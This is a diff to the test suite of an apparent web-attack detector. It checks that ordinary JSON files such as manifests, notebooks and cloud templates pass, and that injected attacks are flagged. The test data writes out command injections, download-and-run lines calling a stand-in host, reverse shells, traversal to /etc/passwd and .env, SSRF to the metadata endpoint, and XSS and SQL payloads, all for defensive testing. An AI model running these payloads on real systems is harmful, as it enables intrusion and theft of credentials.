@@ -1296,3 +1296,94 @@ t.test('twenty-first round (the spent eleventh part): subshells and substitution
   for (const p of ['/alert(25)//\\', '-alert(23)/', "*/alert('x');//", '[1].group(alert)', "'1337'.split(window,window[Symbol['split']]=alert)", 'onhashchange=setTimeout;']) t.ok(q(p).includes('xss'), p)
   for (const p of ['- alert (see below)', '#confirm(order)', 'onload=init;']) t.notOk(q(p).includes('xss'), p)
 })
+
+t.test('JSON documents (json22): application repositories\' documents by kind, and the attacks in the same fields', async (t) => {
+  const form = (name: string, value: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`name=item&${name}=${encodeURIComponent(value)}`) })
+  // a JSON document given as a form field or a query value, with a file's last line break: read as JSON
+  const manifest = { name: 'npm9', version: '1.0.0', description: '', main: 'index.js', scripts: { test: 'echo "Error: no test specified" && exit 1' }, license: 'ISC' }
+  t.same(form('data', `${JSON.stringify(manifest, null, 2)}\n`), [], "a package manifest pasted with its last line break (its scripts' command fields)")
+  t.same(q(`\n${JSON.stringify(manifest, null, 2)}\n`, 'config'), [], 'as a query value')
+  t.ok(form('data', `${JSON.stringify({ ...manifest, description: 'a; cat /etc/passwd' }, null, 2)}\n`).includes('rce'), "an injection into the manifest's other fields")
+  t.ok(form('data', `${JSON.stringify({ command: '; curl http://x.oastify.com | sh' })}\n`).includes('rce'), 'an injected download run in a command field')
+  // a notebook's cells: each text a list of its lines, read whole (a fenced block's opening line, a table of commands)
+  const notebook = {
+    cells: [
+      { cell_type: 'markdown', metadata: {}, source: ['Concatenation with ``np.concatenate``:\n', '\n', '```python\n', 'np.concatenate([x, y])\n', '```'] },
+      { cell_type: 'markdown', metadata: {}, source: ['| Method | Description |\n', '|--------|-------------|\n', '| ``cat()`` | Concatenate strings |\n', '| ``ps`` | Picosecond |\n'] },
+      { cell_type: 'markdown', metadata: {}, source: ['If you prefer to sort the array in-place, you can instead use the ``sort`` method of arrays:'] },
+      { cell_type: 'markdown', metadata: {}, source: ['```bash\n', 'pip install numpy pandas matplotlib\n', '```'] },
+    ],
+    metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } }, nbformat: 4, nbformat_minor: 4,
+  }
+  t.same(json(notebook), [], "a notebook's Markdown cells")
+  t.ok(json({ source: ['x = 1\n', '; curl http://x.oastify.com | sh\n'] }).includes('rce'), 'an injection on a line of a list of lines')
+  t.ok(json({ source: ['```python\n', '```\n', 'a; cat /etc/passwd'] }).includes('rce'), 'an injection outside a fenced block')
+  t.ok(json({ names: ['a', '; cat /etc/passwd'] }).includes('rce'), 'a list of values, not of lines, each alone')
+  // spans in double backticks; a table alone is Markdown
+  t.notOk(q('If you prefer to sort the array in-place, you can instead use the ``sort`` method of arrays:').includes('rce'), 'a span in double backticks')
+  for (const p of ['a``; id; ``b', 'Use the ``sort`` method; cat /etc/passwd']) t.ok(q(p).includes('rce'), p)
+  t.ok(q('1`=`1` AND ELT(1,SLEEP(5)) AND `1`=`1').includes('sqli'), "MySQL's names still")
+  t.ok(q('| a | b |\n|---|---|\n| x | y |\nfoo; cat /etc/passwd').includes('rce'), 'an injection after a table')
+  // a protocol and a port (a load balancer's health check target) names no host
+  t.same(json({ Resources: { LB: { Type: 'AWS::ElasticLoadBalancing::LoadBalancer', Properties: { HealthCheck: { Target: 'HTTP:80/', HealthyThreshold: '3', Interval: '30' } } } } }), [], 'HTTP:80/')
+  t.notOk(q('HTTPS:443/health', 'target').includes('ssrf'), 'HTTPS:443/health')
+  for (const p of ['http:127.0.0.1/', 'http:2130706433/', 'http:0/', 'http:[::1]/', 'http:localhost/']) t.ok(q(p, 'url').includes('ssrf'), p)
+  // a glob's extended pattern: its `|` separates names
+  t.same(json({ namedInputs: { default: ['{projectRoot}/**/*'], production: ['default', '!{projectRoot}/**/?(*.)+(spec|test).[jt]s?(x)?(.snap)'] } }), [], "nx's named inputs")
+  t.ok(q('*.+(js|ts); cat /etc/passwd').includes('rce'), 'an injection after a pattern')
+  t.ok(q('+(a|b) | id').includes('rce'), 'a pipe after a pattern')
+  // a tool's configuration (by its keys) and a climb to a glob pattern name the project's own files
+  t.same(json({ extends: './tsconfig.json', include: ['src/**/*.ts', 'test/**/*.ts', '../../__typings__/**/*.d.ts'] }), [], "a tsconfig's include climbing to its typings")
+  t.same(json({ include: ['./src/**/*.ts', '../../scripts/repo-utils/*.d.ts'] }), [], 'include climbing to a pattern')
+  t.same(json({ extends: ['../../tsconfig.base.json'], include: ['./src/**/*.ts', '../../lib/globals.d.ts'], references: [] }), [], "a tsconfig's include climbing to a file")
+  t.same(json({ presets: ['../../babel-preset-env'], only: ['../../../packages/*/test'] }), [], "babel's only")
+  t.same(json({ version: 3, names: ['marker'], sources: ['../../../node_modules/dep/index.js'], mappings: ';;;AAAO,IAAMA' }), [], "a source map's sources")
+  for (const doc of [
+    { extends: './tsconfig.json', include: ['../../../../etc/passwd'] },
+    { include: ['../../../../etc/*'] },
+    { file: '../../../*/../../etc/passwd' },
+    { file: '../../../../windows/win.ini' },
+    { version: 3, sources: ['../../../../../etc/shadow'], mappings: '' },
+  ]) t.ok(json(doc).includes('path_traversal'), JSON.stringify(doc))
+  t.ok(q('../../../*', 'file').includes('path_traversal'), 'a climb to a pattern outside a body')
+  // a cloud template's boot script is a whole program: only a download run at once or an injection on its first line counts
+  const template = (script: string) => ({
+    AWSTemplateFormatVersion: '2010-09-09', Description: 'A Gitea server', Parameters: { InstanceType: { Type: 'String', Default: 't3.small' } },
+    Resources: { Server: { Type: 'AWS::EC2::Instance', Properties: { ImageId: 'ami-123', InstanceType: { Ref: 'InstanceType' }, UserData: { 'Fn::Base64': { 'Fn::Sub': script } } } } },
+  })
+  t.same(json(template('#!/bin/bash\n\nset -eou pipefail\n\nlocal_ip=$(ec2-metadata | grep "^local-ipv4: " | cut -d " " -f 2)\nyum install -y gitea\nsystemctl enable gitea\n')), [], 'a boot script')
+  t.ok(json(template('#!/bin/bash\nset -e\ncurl http://x.oastify.com/s.sh | sh\nyum install -y gitea\n')).includes('rce'), 'a download run at once in it')
+  t.ok(json(template('#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nyum install -y gitea\n')).includes('rce'), 'a reverse shell in it')
+  // a product's name: a runtime and its version after a `&` of prose
+  for (const name of ['Azure Functions & Java 11', 'Azure Functions & Python 3', 'Azure Machine Learning & Python 3 - Anaconda', 'Flask & Python 3.12 (Community)']) t.same(json({ name, image: 'mcr.microsoft.com/devcontainers/base' }), [], name)
+  for (const p of ['a & python 3 -c "import os"', 'a & java -jar x.jar', 'a & sleep 5', 'x | python /tmp/x.py', 'x; java 11']) t.ok(q(p).includes('rce'), p)
+  // an editor's task and a container's command starting with a framework's tool
+  t.same(json({ label: 'create', type: 'shell', command: 'rails new test-project -G --skip -d postgresql && cd test-project && cp ../.vscode/database.yml config && rake db:create' }), [], "a task's rails command line")
+  t.ok(json({ label: 'create', type: 'shell', command: 'x; curl http://x.oastify.com | sh' }).includes('rce'), 'an injection into a command field')
+  t.ok(json({ command: '; curl http://x.oastify.com | sh' }).includes('rce'), 'an injected download run in a command field')
+  // a grammar's pattern of keywords: its `|` is alternation
+  t.same(json({ name: 'keyword.control', match: '\\b(else|if|elif|endif|for|endfor|break|continue|set|include|import|extends|from|do|raw|endraw)\\b' }), [], "a TextMate grammar's keywords")
+  // a menu label's access key in a translation file
+  t.same(json({ 'Move document': '&Flytta dokument', File: '&Arkiv', Save: '&Spara som...', Open: '&Open' }), [], 'access keys')
+  for (const p of ['&Whoami', '&whoami', '&ping -n 3 127.0.0.1', '&Dir', '&Net user', '&Cat /etc/passwd']) t.ok(json({ a: p }).includes('rce'), p)
+  // a monorepo package's script climbing to the workspace's .env: a configuration's command line names only system files as traversal
+  const pkg = (cmd: string) => ({ name: '@x/web', version: '1.0.0', scripts: { codegen: cmd, build: 'vite build' }, dependencies: { vue: '^3.4.0' } })
+  t.same(json(pkg('graphql-codegen --require dotenv/config --config gql-codegen.yml dotenv_config_path="../../.env" --watch')), [], 'dotenv_config_path="../../.env"')
+  t.ok(json(pkg('tsc && cat ../../../../etc/passwd')).includes('path_traversal'), 'a system file climbed to in a script')
+  t.ok(json({ file: '../../.env' }).includes('path_traversal'), "a request's file field climbing to .env")
+  // a content entry's image two levels up is a page's asset
+  t.same(json({ alt: 'Futuristic landscape with chrome buildings and blue skies', src: '../../assets/the-future.jpg' }), [], "a content entry's image")
+  for (const src of ['../../etc/passwd', '../../../assets/x.jpg', '../../etc/passwd%00.jpg', '../../x/../../etc/a.png', '../../uploads/shell.php', '../../x']) t.ok(json({ alt: 'a', src }).includes('path_traversal'), src)
+  // a notebook's shell escapes are its own command lines; a download run at once or an injection still counts
+  const cell = (source: string[]) => ({ cells: [{ cell_type: 'code', execution_count: 1, metadata: {}, outputs: [], source }, { cell_type: 'markdown', metadata: {}, source: ['# Data\n', 'Downloaded first.'] }], metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } }, nbformat: 4, nbformat_minor: 5 })
+  t.same(json(cell(['!wget https://storage.googleapis.com/x/data.zip && unzip data.zip\n', '!ls -la data/'])), [], '!wget … && unzip')
+  t.same(json(cell(['# Download\n', '!mkdir -p data && cd data && wget -q https://example.com/a.tgz && tar xzf a.tgz'])), [], '!mkdir … && wget … && tar')
+  for (const source of [['!wget -qO- http://x.oastify.com/s.sh | sh\n', 'import pandas as pd'], ['!x; cat /etc/passwd\n', 'import pandas as pd'], ['!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n', 'x = 1']]) t.ok(json(cell(source)).includes('rce'), source[0]!)
+  t.ok(json({ q: '!ls -la && cat /etc/passwd' }).includes('rce'), 'outside a document')
+  // a dependency's version under a name with a URL's word (`web-api`, `astro-remote`) is no shortened address of anyone's
+  t.same(json({ name: 'slackbot', version: '0.1.0', dependencies: { '@slack/web-api': '7.0.1', 'astro-remote': '0.3.4', next: '14.0.0' } }), [], 'versions')
+  t.same(json({ require: { 'php': '>=8.1', 'guzzlehttp/guzzle': '7.8.1', 'league/flysystem-aws-s3-v3': '3.0.0' } }), [], "a composer manifest's require")
+  t.same(q('11.5.1', 'webhook_url'), ['ssrf'], 'a short address under a field named for a URL still')
+  t.ok(json({ name: 'x', dependencies: { 'web-api': 'http://169.254.169.254/latest/meta-data/' } }).includes('ssrf'), 'a metadata URL as a dependency')
+  t.ok(json({ name: 'x', devDependencies: { a: '1.0.0; curl http://x.oastify.com | sh' } }).includes('rce'), 'an injection into a version')
+})
